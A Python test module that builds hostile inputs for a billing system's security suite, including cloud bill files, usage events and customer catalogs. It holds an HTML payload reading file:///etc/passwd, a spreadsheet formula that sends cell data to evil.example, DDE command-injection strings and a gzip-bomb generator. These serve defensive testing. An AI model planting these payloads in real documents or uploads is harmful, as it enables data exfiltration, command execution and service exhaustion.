"""Builders of the hostile suite's inputs: bill files, usage events, catalogs, API requests.

The case table (``cases.py``) names what each case sends with these; each builder puts the
hostile part between good parts, so that a case can check that the good parts still went
through. Accounts, customers and tokens here match the catalog the suite applies first.
"""

from __future__ import annotations

import copy
import gzip
import io
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

# --- who is who (the suite's catalog and tokens) --------------------------------------------

CUSTOMER = "hostile-co"
OTHER = "other-co"
AWS_ACCOUNT = "sub-hostile"
PROJECT = "project-42"
SOURCE = "metering/region-1"
PERIOD = "2024-09"

OPERATOR_TOKEN = "hostile-operator-token-0123456789"
CUSTOMER_TOKEN = "hostile-customer-token-0123456789"
OTHER_TOKEN = "hostile-other-customer-token-012345"
SOURCE_TOKEN = "hostile-source-token-0123456789"
OTHER_SOURCE_TOKEN = "hostile-other-source-token-012345"
TOKENS = {
    "operator": OPERATOR_TOKEN,
    "customer": CUSTOMER_TOKEN,
    "other": OTHER_TOKEN,
    "source": SOURCE_TOKEN,
    "other-source": OTHER_SOURCE_TOKEN,
    "none": "",
}
INGEST_MAX_BYTES = 262_144
INGEST_MAX_EVENTS = 50
INVOICING_MAX_BYTES = 1 << 20

PDF_INJECTION = '<img src="file:///etc/passwd"><b>Hostile</b> & Co'
"""The customer's name: HTML that a renderer without escaping would run."""
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"invoice")'
"""A spreadsheet formula as a provider's service name (the invoice CSV must defuse it)."""
FORMULA_TOO = "@SUM(1+1)*cmd|' /C calc'!A0"
"""Another, as the line's description."""


def catalog(**changes: Any) -> dict[str, Any]:
    """The suite's catalog (two customers of one seller), with ``changes`` applied on top."""
    base: dict[str, Any] = {
        "invoicing_entities": [
            {
                "id": "cumulus",
                "name": "Cumulus Cloud Resellers GmbH",
                "address": {
                    "lines": ["Wolkenstrasse 7"],
                    "country": "DE",
                    "city": "Berlin",
                    "postal_code": "10115",
                },
                "vat_id": "DE123456788",
                # XRechnung needs the seller's telephone (BR-DE-6), Peppol both participant ids
                "phone": "+49 30 1234567",
                "peppol_participant_id": "9930:DE123456788",
                "number_prefix": "HOS-",
                "email": "billing@cumulus.example",
                "payment_methods": [{"kind": "Bank transfer", "details": "IBAN DE00 0000"}],
            }
        ],
        "tax_rates": [{"country": "DE", "percent": "19"}],
        "price_lists": [
            {
                "id": "standard",
                "versions": [
                    {
                        "version": 1,
                        "effective_from": "2024-01-01",
                        "rules": [{"kind": "markup", "percent": "10"}],
                    }
                ],
            }
        ],
        "plans": [],
        "customers": [
            {
                "id": CUSTOMER,
                "name": PDF_INJECTION,
                "address": {
                    "lines": ["Weg 1", "=cmd|' /C calc'!A0"],
                    "country": "DE",
                    "city": "Berlin",
                    "postal_code": "10117",
                },
                "peppol_participant_id": "0088:5798000000001",
                "currency": "EUR",
                "invoicing_entity": "cumulus",
                "price_list": "standard",
                "accounts": [
                    {"provider": "AWS", "account_id": AWS_ACCOUNT},
                    {"provider": "OpenStack", "account_id": PROJECT},
                ],
                "contacts": [
                    {"email": "ap@hostile.example", "name": "Accounts", "roles": ["Billing"]}
                ],
            },
            {
                "id": OTHER,
                "name": "Other Co",
                "address": {"lines": ["Gasse 2"], "country": "DE"},
                "currency": "EUR",
                "invoicing_entity": "cumulus",
                "price_list": "standard",
                "accounts": [{"provider": "AWS", "account_id": "sub-other"}],
                "contacts": [{"email": "ap@other.example", "roles": ["Billing"]}],
            },
        ],
    }
    base.update(copy.deepcopy(changes))
    return base


def customer(**changes: Any) -> dict[str, Any]:
    """A third customer (valid unless ``changes`` break it), for catalog cases."""
    entry: dict[str, Any] = {
        "id": "third-co",
        "name": "Third Co",
        "address": {"lines": ["Platz 3"], "country": "DE"},
        "currency": "EUR",
        "invoicing_entity": "cumulus",
        "price_list": "standard",
    }
    entry.update(changes)
    return entry


def with_customers(*extra: dict[str, Any], **changes: Any) -> dict[str, Any]:
    """The suite's catalog plus ``extra`` customers."""
    body = catalog(**changes)
    body["customers"] = [*body["customers"], *extra]
    return body


# --- bill files ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Bill:
    """A bill file: its name, how to make its bytes, and how many of its rows are good."""

    name: str
    make: Callable[[], bytes]
    good: int
    """Rows that must be accepted (0 when the whole file must be refused)."""


FOCUS = [
    "BilledCost",
    "BillingAccountId",
    "BillingCurrency",
    "BillingPeriodStart",
    "ChargeCategory",
    "ChargePeriodStart",
    "ChargePeriodEnd",
    "ProviderName",
    "ServiceName",
    "EffectiveCost",
    "ListCost",
    "PricingQuantity",
    "PricingUnit",
    "SubAccountId",
    "ChargeDescription",
]


def focus_row(n: int = 0, **cells: str) -> dict[str, str]:
    """A good FOCUS 1.0 usage row of the suite's AWS account (``n`` makes it unique)."""
    cost = f"1.{n:02d}"
    row = {
        "BilledCost": cost,
        "BillingAccountId": "payer-1",
        "BillingCurrency": "EUR",
        "BillingPeriodStart": "2024-09-01T00:00:00Z",
        "ChargeCategory": "Usage",
        "ChargePeriodStart": "2024-09-03T00:00:00Z",
        "ChargePeriodEnd": "2024-09-03T01:00:00Z",
        "ProviderName": "AWS",
        "ServiceName": "Amazon EC2",
        "EffectiveCost": cost,
        "ListCost": cost,
        "PricingQuantity": "1",
        "PricingUnit": "Hours",
        "SubAccountId": AWS_ACCOUNT,
        "ChargeDescription": f"t3.micro hour {n}",
    }
    row.update(cells)
    return row


def _csv_cell(text: str) -> str:
    if any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_text(rows: list[dict[str, str]], columns: list[str] = FOCUS, end: str = "\n") -> str:
    """A CSV document of ``rows`` under ``columns``."""
    lines = [",".join(columns)]
    lines += [",".join(_csv_cell(r.get(c, "")) for c in columns) for r in rows]
    return end.join(lines) + end


def focus(tag: str, *bad: dict[str, str], end: str = "\n") -> Callable[[], bytes]:
    """A FOCUS CSV: a good row, the ``bad`` rows, a good row (``tag`` makes the file unique)."""

    def make() -> bytes:
        rows = [focus_row(1, ChargeDescription=f"{tag} first"), *bad]
        rows.append(focus_row(2, ChargeDescription=f"{tag} last"))
        return csv_text(own_scope(rows, tag), end=end).encode()

    return make


def own_scope(rows: list[dict[str, str]], tag: str) -> list[dict[str, str]]:
    """The rows under a billing account of their own: a bill whose scope (provider, billing
    account, period) is another bill's would restate it, reversing that bill's lines."""
    return [r | {"BillingAccountId": f"payer-{tag}"} for r in rows]


def encoded(tag: str, encoding: str, bad_text: str) -> Callable[[], bytes]:
    """A FOCUS CSV whose good rows are ASCII and one row carries ``bad_text`` in
    ``encoding`` (the rest of the file is the same in UTF-8 and in that encoding)."""

    def make() -> bytes:
        first, bad_row, last = own_scope(
            [
                focus_row(1, ChargeDescription=f"{tag} first"),
                focus_row(3, ChargeDescription=bad_text),
                focus_row(2, ChargeDescription=f"{tag} last"),
            ],
            tag,
        )
        head = csv_text([first]).encode()
        bad = csv_text([bad_row]).split("\n", 1)[1]
        tail = csv_text([last]).split("\n", 1)[1]
        return head + bad.encode(encoding) + tail.encode()

    return make


def whole(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    """A file of exactly ``text`` in ``encoding``."""
    return lambda: text.encode(encoding)


def gzip_bomb(tag: str, filler: bytes, mebibytes: int) -> Callable[[], bytes]:
    """A .gz of a good FOCUS header and row, then ``mebibytes`` MiB of ``filler``: a few
    hundred KiB on disk."""

    def make() -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        out = io.BytesIO()
        row = own_scope([focus_row(1, ChargeDescription=tag)], tag)
        out.write(packer.compress(csv_text(row).encode()))
        chunk = filler * ((1 << 20) // len(filler))
        for _ in range(mebibytes):
            out.write(packer.compress(chunk))
        out.write(packer.flush())
        return out.getvalue()

    return make


def gzip_cut(tag: str) -> Callable[[], bytes]:
    """A .gz whose compressed stream stops half-way (an interrupted download)."""

    def make() -> bytes:
        rows = [focus_row(n, ChargeDescription=f"{tag} {n}") for n in range(40)]
        packed = gzip.compress(csv_text(own_scope(rows, tag)).encode())
        return packed[: len(packed) // 2]

    return make


def many_columns(count: int) -> Callable[[], bytes]:
    """A FOCUS CSV with ``count`` extra columns (a header of megabytes)."""

    def make() -> bytes:
        extra = [f"x_{i}" for i in range(count)]
        [row] = own_scope([focus_row(1, ChargeDescription="wide")], "wide")
        header = ",".join(FOCUS + extra)
        line = ",".join([row[c] for c in FOCUS] + [""] * count)
        return f"{header}\n{line}\n".encode()

    return make


CUR = [
    "identity/LineItemId",
    "bill/PayerAccountId",
    "bill/BillingPeriodStartDate",
    "lineItem/UsageAccountId",
    "lineItem/LineItemType",
    "lineItem/UsageStartDate",
    "lineItem/UsageEndDate",
    "lineItem/ProductCode",
    "lineItem/UsageAmount",
    "lineItem/CurrencyCode",
    "lineItem/UnblendedCost",
    "pricing/publicOnDemandCost",
]


def cur_row(n: int, **cells: str) -> dict[str, str]:
    """A good legacy AWS CUR usage row of the suite's account."""
    row = {
        "identity/LineItemId": f"li-{n}",
        "bill/PayerAccountId": "payer-1",
        "bill/BillingPeriodStartDate": "2024-09-01T00:00:00Z",
        "lineItem/UsageAccountId": AWS_ACCOUNT,
        "lineItem/LineItemType": "Usage",
        "lineItem/UsageStartDate": "2024-09-04T00:00:00Z",
        "lineItem/UsageEndDate": "2024-09-04T01:00:00Z",
        "lineItem/ProductCode": "AmazonS3",
        "lineItem/UsageAmount": "2",
        "lineItem/CurrencyCode": "EUR",
        "lineItem/UnblendedCost": f"0.{n:02d}",
        "pricing/publicOnDemandCost": f"0.{n:02d}",
    }
    row.update(cells)
    return row


def cur(tag: str, *bad: dict[str, str]) -> Callable[[], bytes]:
    """A legacy AWS CUR CSV: good, ``bad``..., good."""
    rows = [cur_row(1, **{"identity/LineItemId": f"{tag}-1"}), *bad]
    rows.append(cur_row(2, **{"identity/LineItemId": f"{tag}-2"}))
    rows = [r | {"bill/PayerAccountId": f"payer-{tag}"} for r in rows]
    return lambda: csv_text(rows, CUR).encode()


def gcp_line(n: int, **fields: Any) -> dict[str, Any]:
    """A good Google Cloud billing export object (JSON lines)."""
    line: dict[str, Any] = {
        "billing_account_id": "01A2B3-C4D5E6-F7A8B9",
        "service": {"id": "6F81", "description": "Compute Engine"},
        "sku": {"id": f"sku-{n}", "description": "N1 core"},
        "usage_start_time": "2024-09-03T00:00:00Z",
        "usage_end_time": "2024-09-04T00:00:00Z",
        "project": {"id": "gcp-hostile", "name": "Hostile"},
        "cost": f"2.{n:02d}",
        "currency": "EUR",
        "usage": {"amount": "24", "unit": "hour"},
        "credits": [],
        "invoice": {"month": "202409"},
        "cost_type": "regular",
    }
    line.update(fields)
    return line


def gcp(tag: str, *bad: str | dict[str, Any]) -> Callable[[], bytes]:
    """Google Cloud JSON lines: good, ``bad`` (objects, or raw line text), good."""

    def text(item: str | dict[str, Any]) -> str:
        if isinstance(item, str):
            return item
        return json.dumps(item | {"billing_account_id": f"billing-{tag}"})

    lines = [text(gcp_line(1)), *(text(b) for b in bad), text(gcp_line(2))]
    data = ("\n".join(lines) + "\n").encode()
    return lambda: data


AZURE = [
    "BillingAccountId",
    "BillingPeriodStartDate",
    "SubscriptionId",
    "Date",
    "MeterCategory",
    "Quantity",
    "CostInBillingCurrency",
    "BillingCurrencyCode",
    "ChargeType",
    "PricingModel",
    "AccountName",
]


def azure_row(n: int, **cells: str) -> dict[str, str]:
    """A good Azure EA cost-details row."""
    row = {
        "BillingAccountId": "8611537",
        "BillingPeriodStartDate": "09/01/2024",
        "SubscriptionId": "a1b2c3d4-0000-4000-8000-000000000001",
        "Date": "09/03/2024",
        "MeterCategory": "Virtual Machines",
        "Quantity": "24",
        "CostInBillingCurrency": f"3.{n:02d}",
        "BillingCurrencyCode": "EUR",
        "ChargeType": "Usage",
        "PricingModel": "OnDemand",
        "AccountName": "Contoso",
    }
    row.update(cells)
    return row


def azure(tag: str, *bad: dict[str, str]) -> Callable[[], bytes]:
    """An Azure EA CSV: good, ``bad``..., good."""
    rows = [r | {"BillingAccountId": f"ea-{tag}"} for r in (azure_row(1), *bad, azure_row(2))]
    return lambda: csv_text(rows, AZURE).encode()


OPENSTACK = [
    "begin",
    "end",
    "project_id",
    "resource_id",
    "type",
    "qty",
    "unit",
    "price",
    "currency",
]


def openstack(*bad: dict[str, str]) -> Callable[[], bytes]:
    """An OpenStack CloudKitty CSV export: good, ``bad``..., good."""

    def row(n: int, **cells: str) -> dict[str, str]:
        base = {
            "begin": "2024-09-01T00:00:00Z",
            "end": "2024-09-01T01:00:00Z",
            "project_id": PROJECT,
            "resource_id": f"vm-{n}",
            "type": "instance",
            "qty": "1",
            "unit": "instance",
            "price": "0.05",
            "currency": "EUR",
        }
        base.update(cells)
        return base

    rows = [row(1), *(row(9, **b) for b in bad), row(2)]
    return lambda: csv_text(rows, OPENSTACK).encode()


def cloudkitty_json(text: str) -> Callable[[], bytes]:
    """CloudKitty's API output, as given."""
    data = text.encode()
    return lambda: data


def parquet(tag: str, *bad: dict[str, str], cut: bool = False) -> Callable[[], bytes]:
    """A FOCUS Parquet file: good, ``bad``..., good (``cut``: its second half missing)."""

    def make() -> bytes:
        rows = [focus_row(5, ChargeDescription="parquet first"), *bad]
        rows.append(focus_row(6, ChargeDescription="parquet last"))
        rows = own_scope(rows, tag)
        table = pa.table({c: [r.get(c) for r in rows] for c in FOCUS})
        out = io.BytesIO()
        pq.write_table(table, out)
        data = out.getvalue()
        return data[: len(data) // 2] if cut else data

    return make


# --- usage events ---------------------------------------------------------------------------


def event(event_id: str, **data: Any) -> dict[str, Any]:
    """A good upstream usage event of the suite's OpenStack project; ``data`` overrides."""
    body: dict[str, Any] = {
        "id": event_id,
        "source": SOURCE,
        "type": "com.example.usage.v1",
        "time": "2024-09-02T10:00:00Z",
        "data": {
            "provider": "OpenStack",
            "sub_account_id": PROJECT,
            "service_name": "compute",
            "quantity": "3",
            "unit": "hour",
            "cost": "0.36",
            "currency": "EUR",
            "charge_period_start": "2024-09-02T09:00:00Z",
            "charge_period_end": "2024-09-02T10:00:00Z",
        },
    }
    body["data"].update(data)
    return body


def event_without(event_id: str, *keys: str) -> dict[str, Any]:
    """A good event with top-level ``keys`` removed."""
    body = event(event_id)
    for key in keys:
        body.pop(key)
    return body


def event_with(event_id: str, **top: Any) -> dict[str, Any]:
    """A good event with top-level fields replaced."""
    return event(event_id) | top


def nested(depth: int) -> str:
    """JSON text of arrays nested ``depth`` deep."""
    return "[" * depth + "]" * depth


@dataclass(frozen=True)
class EventIn:
    """One event (JSON value, or raw text when ``raw``) sent between two good events, in one
    HTTP batch or as one Kafka message."""

    body: Any
    raw: bool = False
    token: str = "source"
    first_seen: Any = None
    """Sent (and accepted) before the case, for replays."""


@dataclass(frozen=True)
class Http:
    """One HTTP request to a service (``ingest`` or ``invoicing``)."""

    service: str
    method: str
    path: str
    token: str | None = None
    """Whose token (a key of ``TOKENS``); by default the source's for ingest, else the
    operator's."""
    json: Any = None
    content: bytes | Callable[[], bytes] | None = None
    headers: dict[str, str] = field(default_factory=dict)
